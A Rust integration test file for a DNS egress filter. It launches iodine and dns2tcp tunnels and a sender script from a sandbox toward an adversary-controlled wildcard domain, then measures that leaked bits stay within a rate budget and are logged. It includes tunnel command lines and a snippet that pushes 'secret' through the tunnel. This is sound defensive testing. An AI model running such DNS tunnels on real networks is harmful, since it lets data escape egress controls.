//! Real tunnels and the worst that a script can do, under an allowed wildcard whose server the adversary owns.
//! What got out is counted by a witness on the wire between the filter and that server.

#![allow(clippy::print_stdout, reason = "what got out against the budget is what these tests show")]

use std::collections::BTreeSet;
use std::fs;
use std::time::Instant;

use integration::text;
use serde_json::Value;

use super::capture::{CapturedMessage, PacketCapture, queried_names};
use super::{DnsNetwork, POLICY, SERVER, finding_codes, records_at_stage};

/// The adversary's domain, all of which the wildcard covers, and the part that a tunnel has for itself.
const WILD_DOMAIN: &str = "wild.example";
const DOMAIN: &str = "t.wild.example";
const UPSTREAM: &str = "127.0.0.1:5300";
/// Bits that a rule may send at once, and in each hour.
const BURST: f64 = 4096.0;
const RATE: f64 = 2048.0;
/// Bits that an octet of a name is charged: more than it can say.
const BITS_PER_OCTET: f64 = 5.3;
/// Bits in a letter of base32.
const BITS_PER_LETTER: f64 = 5.0;
const NXDOMAIN: u64 = 3;

/// A wildcard for which the operator allows all that a policy can: the most that a tunnel can hope for.
const GENEROUS_POLICY: &str = r#"
name = "p"
[[allow]]
name = "wild"
hosts = ["*.wild.example"]
dns_types = ["A", "AAAA", "CAA", "CNAME", "HTTPS", "MX", "SRV", "SVCB", "TXT"]
"#;

#[test]
fn p14_iodine_does_not_connect_where_only_addresses_are_allowed() {
    for options in [&["-T", "A"][..], &[]] {
        let mut tunnel = TunnelAttack::with_iodine(POLICY);
        let client = ["-k", "2", "120", "iodine", "-f", "-r", "-P", "pw"];
        let client = [&client[..], options, &["10.200.0.1", DOMAIN]].concat();
        let run = tunnel.net.command_in(&tunnel.net.sandbox, "timeout", &client).output().unwrap();
        let said = text(&run.stderr);
        assert!(said.contains("couldn't connect") || said.contains("No suitable"), "{said}");
        tunnel.finish(&format!("iodine {options:?}"));
    }
}

#[test]
fn p14_iodine_at_its_best_stops_at_the_budget() {
    // Names as long as they may be, and short ones, which leave less of the budget unused at the end.
    for (longest, packet) in [("255", "150"), ("100", "8")] {
        let mut tunnel = TunnelAttack::with_iodine(GENEROUS_POLICY);
        let sandbox = tunnel.net.sandbox.clone();
        let tuned = ["-T", "TXT", "-O", "Base32", "-L", "0", "-m", "100", "-M", longest];
        let client = [&["-f", "-r", "-P", "pw"], &tuned[..], &["10.200.0.1", DOMAIN]].concat();
        tunnel.net.start(&sandbox, "iodine", &client, "Connection setup complete");
        let pump = super::script_path("pump.py");
        tunnel.net.start(&sandbox, "python3", &[&pump, "10.99.0.1", packet], "pumping");
        tunnel.net.wait_for_log("dns_budget_exhausted");
        tunnel.inside.wait_until("data that is refused again and again", |seen| {
            let data = seen.iter().filter(|seen| seen.name.starts_with(|user: char| user.is_ascii_digit()));
            data.filter(|seen| seen.rcode == Some(NXDOMAIN)).count() >= 3
        });
        let (bits, records) = tunnel.finish(&format!("iodine with names of {longest}"));
        assert!(bits > 0.5 * BURST, "iodine could have sent more than {bits} bits");
        assert!(finding_codes(&records).iter().any(|code| code == "dns_budget_exhausted"));
    }
}

#[test]
fn p14_dns2tcp_gets_nothing_out() {
    for (policy, kind) in [(POLICY, "TXT"), (GENEROUS_POLICY, "TXT"), (GENEROUS_POLICY, "KEY")] {
        let mut net = DnsNetwork::new();
        let config = net.dir.path().join("dns2tcpd.conf");
        let chroot = net.dir.path().display();
        let text = format!(
            "listen = 127.0.0.1\nport = 5300\nuser = root\nchroot = {chroot}\ndomain = {DOMAIN}\nkey = k\nresources = ssh:127.0.0.1:22\n"
        );
        fs::write(&config, text).unwrap();
        let (path, gateway) = (config.display().to_string(), net.gateway.clone());
        net.start(&gateway, "dns2tcpd", &["-F", "-d", "1", "-f", &path], "isten");
        let mut tunnel = TunnelAttack::new(net, policy);
        let sandbox = tunnel.net.sandbox.clone();
        let client = ["-T", kind, "-z", DOMAIN, "-k", "k", "-r", "ssh", "-l", "2222", "-d", "1"];
        let client = [&client[..], &["10.200.0.1"]].concat();
        tunnel.net.start(&sandbox, "dns2tcpc", &client, "isten");
        // It asks once somebody connects to its end of the tunnel.
        tunnel.net.start(&sandbox, "python3", &["-c", CONNECT_SCRIPT], "connected");
        tunnel.inside.wait_until("a refused query of dns2tcp", |seen| {
            seen.iter().any(|seen| seen.rcode == Some(NXDOMAIN))
        });
        let (bits, records) = tunnel.finish(&format!("dns2tcp by {kind}"));
        assert!(records_at_stage(&records, "denied").count() > 0, "no record of a refusal");
        assert!(bits == 0.0, "{bits} bits got out");
    }
}

/// The program whose bytes dns2tcp would carry.
const CONNECT_SCRIPT: &str = "
import socket
with socket.create_connection(('127.0.0.1', 2222)) as tunnel:
    print('connected', flush=True)
    tunnel.sendall(b'secret')
    while tunnel.recv(4096):
        pass
";

#[test]
fn p14_a_script_that_knows_the_budget_gets_it_and_no_more() {
    let mut net = DnsNetwork::new();
    net.start_resolver();
    let mut tunnel = TunnelAttack::new(net, POLICY);
    let sandbox = tunnel.net.sandbox.clone();
    tunnel.net.run_script(&sandbox, "sender.py", &["10.200.0.1", WILD_DOMAIN, "greedy"]);
    let (bits, records) = tunnel.finish("the longest names there are");
    assert!(bits > 0.9 * BURST, "the sender could have sent more than {bits} bits");
    assert!(finding_codes(&records).iter().any(|code| code == "dns_budget_exhausted"));
}

#[test]
fn p14_a_slow_sender_of_base32_stays_within_the_budget_of_each_hour() {
    const HOURS: usize = 3;
    for (letters, seconds) in [(20, 10), (20, 60), (60, 60)] {
        let mut net = DnsNetwork::new();
        net.start_resolver();
        let clock = net.dir.path().join("clock");
        fs::write(&clock, "+0\n").unwrap();
        let clock = clock.display().to_string();
        let outside = net.capture_upstream();
        // The filter runs in real time; between two queries its clock is set forward.
        let preload = format!("LD_PRELOAD={}", faketime_library());
        let file = format!("FAKETIME_TIMESTAMP_FILE={clock}");
        net.start_filter_with(POLICY, UPSTREAM, &[&preload, &file, "FAKETIME_NO_CACHE=1"]);
        let (count, pause, hours) = (letters.to_string(), seconds.to_string(), HOURS.to_string());
        let slow = ["10.200.0.1", WILD_DOMAIN, "slow", &count, &pause, &hours, &clock];
        let sent = net.run_script(&net.sandbox, "sender.py", &slow);
        let left = outside.all_messages(&net);
        let left = queried_names(&left);
        let mut bits = [0.0; HOURS];
        for (hour, name) in sent.lines().map(|line| line.split_once(' ').unwrap()) {
            if left.contains(name) {
                bits[hour.parse::<usize>().unwrap()] += BITS_PER_LETTER * f64::from(letters);
            }
        }
        let bytes = bits.map(|bits| (bits / 8.0) as usize);
        println!(
            "{letters} letters every {seconds} s: {bytes:?} bytes in each hour; the budget is {} and then {}",
            (BURST + RATE) / 8.0,
            RATE / 8.0
        );
        assert_eq!(sent.lines().count(), HOURS * 3600 / seconds);
        let one = BITS_PER_OCTET * f64::from(letters) + 64.0; // what a name may leave over to the next hour
        assert!(bits[0] <= BURST + RATE, "{bits:?}");
        assert!(bits[1..].iter().all(|bits| *bits <= RATE + one), "{bits:?}");
        assert!(bits.iter().sum::<f64>() <= BURST + RATE * HOURS as f64, "{bits:?}");
        assert!(bits.iter().all(|bits| *bits > 0.5 * RATE), "the sender is no threat: {bits:?}");
        assert!(finding_codes(&net.stop()).iter().any(|code| code == "dns_budget_exhausted"));
    }
}

#[test]
fn case_62_a_query_to_another_resolver_comes_to_the_filter_and_case_63_nothing_else_passes() {
    let mut net = DnsNetwork::new();
    net.start_resolver();
    net.start_filter(UPSTREAM);
    let rules = "table ip t { chain p { type nat hook prerouting priority dstnat; udp dport 53 redirect; tcp dport 53 redirect; }\n\
        chain f { type filter hook forward priority 0; policy drop; }\n}\n";
    let file = net.dir.path().join("rules.nft");
    fs::write(&file, rules).unwrap();
    let path = file.display().to_string();
    assert!(net.command_in(&net.gateway.clone(), "nft", &["-f", &path]).status().unwrap().success());
    for over in ["+notcp", "+tcp"] {
        let ask = ["+short", "+time=20", "+tries=1", over, "@8.8.8.8", "github.com", "A"];
        let output = net.command_in(&net.sandbox, "dig", &ask).output().unwrap();
        assert_eq!(text(&output.stdout).trim(), SERVER, "{over}");
    }
    for port in ["443", "853", "784", "8853"] {
        let ask = ["+time=1", "+tries=1", "-p", port, "@8.8.8.8", "github.com"];
        let output = net.command_in(&net.sandbox, "dig", &ask).output().unwrap();
        assert!(!output.status.success(), "port {port}");
    }
    let records = net.stop();
    assert_eq!(records_at_stage(&records, "decision").count(), 1);
}

/// A filter between an adversary in the sandbox and the adversary's server.
struct TunnelAttack {
    net: DnsNetwork,
    inside: PacketCapture,
    outside: PacketCapture,
    since: Instant,
}

impl TunnelAttack {
    /// With a server that has been started.
    fn new(mut net: DnsNetwork, policy: &str) -> Self {
        let (inside, outside) = (net.capture_sandbox(), net.capture_upstream());
        let since = Instant::now();
        net.start_filter_with(policy, UPSTREAM, &[]);
        TunnelAttack { net, inside, outside, since }
    }

    fn with_iodine(policy: &str) -> Self {
        assert!(fs::metadata("/dev/net/tun").is_ok(), "iodine needs /dev/net/tun");
        let mut net = DnsNetwork::new();
        let server = ["-f", "-c", "-P", "pw", "-l", "127.0.0.1", "-p", "5300", "10.99.0.1", DOMAIN];
        net.start(&net.gateway.clone(), "iodined", &server, "Listening to dns");
        TunnelAttack::new(net, policy)
    }

    /// Checks that no more got out than the budget, and that all of it is in the log. Gives the bits.
    fn finish(&mut self, who: &str) -> (f64, Vec<Value>) {
        let asked = self.inside.all_messages(&self.net);
        assert!(!queried_names(&asked).is_empty(), "{who} asked for nothing");
        let left = self.outside.all_messages(&self.net);
        let octets = count_chosen_octets(&left);
        let hours = self.since.elapsed().as_secs_f64() / 3600.0;
        let (bits, most) = (BITS_PER_LETTER * octets as f64, BURST + RATE * hours);
        println!(
            "{who}: asked {} names, {} got out with {octets} octets, {:.0} bytes of base32; the budget is {:.0} bytes at once and {:.0} an hour",
            queried_names(&asked).len(),
            queried_names(&left).len(),
            bits / 8.0,
            BURST / 8.0,
            RATE / 8.0
        );
        assert!(BITS_PER_OCTET * octets as f64 <= most, "{who}: {octets} octets");
        let records = self.net.stop();
        let recorded: BTreeSet<&str> = records_at_stage(&records, "decision")
            .map(|record| record["query"]["hostname"].as_str().unwrap())
            .collect();
        assert_eq!(recorded, queried_names(&left), "{who}: what the log says has left");
        (bits, records)
    }
}

/// Octets that the sandbox chose in the names that left; a name sent again says next to nothing.
fn count_chosen_octets(left: &[CapturedMessage]) -> usize {
    queried_names(left).iter().map(|name| name.len() - WILD_DOMAIN.len() - 1).sum()
}

/// The library that sets a program's clock, of Debian's package `libfaketime`.
fn faketime_library() -> String {
    let found = fs::read_dir("/usr/lib").unwrap().filter_map(Result::ok).find_map(|entry| {
        let path = entry.path().join("faketime/libfaketimeMT.so.1");
        path.exists().then_some(path)
    });
    found.expect("needs the package libfaketime").display().to_string()
}
